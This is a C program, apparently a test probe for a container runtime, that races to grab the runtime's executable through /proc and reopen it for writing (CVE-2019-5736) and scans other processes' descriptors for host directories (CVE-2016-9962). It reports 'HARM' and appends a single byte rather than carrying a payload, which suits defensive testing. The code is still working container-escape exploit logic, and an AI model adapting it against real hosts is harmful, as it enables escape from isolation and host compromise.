// Runs inside a container and looks, as fast as it can, for a process whose
// executable is not of this container: that is the runtime on its way in. It
// keeps the executable by O_PATH and opens it for writing, again and again, also
// after the process has become another (CVE-2019-5736), and it looks for
// descriptors of other processes that lead out (CVE-2016-9962).
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static int held = -1;

static void look(const char *pid)
{
	char path[64];
	struct stat st;
	snprintf(path, sizeof path, "/proc/%s/exe", pid);
	int fd = open(path, O_PATH | O_CLOEXEC);
	if (fd >= 0) {
		struct stat mine;
		if (!fstat(fd, &st) && !stat("/bin/busybox", &mine) && st.st_ino != mine.st_ino) {
			struct stat self;
			if (!stat("/proc/self/exe", &self) && st.st_ino != self.st_ino) {
				if (held >= 0)
					close(held);
				held = dup(fd);
			}
		}
		close(fd);
	}
	for (int n = 3; n < 32; n++) {
		snprintf(path, sizeof path, "/proc/%s/fd/%d", pid, n);
		int d = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC | O_NONBLOCK);
		if (d < 0)
			continue;
		if (faccessat(d, "canary-file", F_OK, 0) == 0) {
			printf("HARM a directory of the host through fd %d of %s\n", n, pid);
			fflush(stdout);
		}
		close(d);
	}
}

// Nobody runs it any more? Then it is not busy, and may be opened.
static void reopen(void)
{
	char again[64];

	if (held < 0)
		return;
	snprintf(again, sizeof again, "/proc/self/fd/%d", held);
	int w = open(again, O_WRONLY | O_CLOEXEC);
	if (w < 0)
		return;
	printf("HARM opened the runtime's executable for writing\n");
	fflush(stdout);
	lseek(w, 0, SEEK_END);
	if (write(w, "x", 1) != 1)
		perror("write");
	exit(0);
}

int main(int argc, char **argv)
{
	struct timespec t;
	int seconds = argc > 1 ? atoi(argv[1]) : 5;
	int ready = open("/tmp/ready", O_CREAT | O_WRONLY | O_CLOEXEC, 0644);
	if (ready >= 0)
		close(ready);
	clock_gettime(CLOCK_MONOTONIC, &t);
	for (time_t end = t.tv_sec + seconds; t.tv_sec < end; clock_gettime(CLOCK_MONOTONIC, &t)) {
		DIR *proc = opendir("/proc");
		if (!proc)
			return 1;
		for (struct dirent *e; (e = readdir(proc));)
			if (e->d_name[0] > '0' && e->d_name[0] <= '9' && strcmp(e->d_name, "1") && atoi(e->d_name) != getpid())
				look(e->d_name);
		closedir(proc);
		reopen();
	}
	fflush(stdout);
	return 0;
}
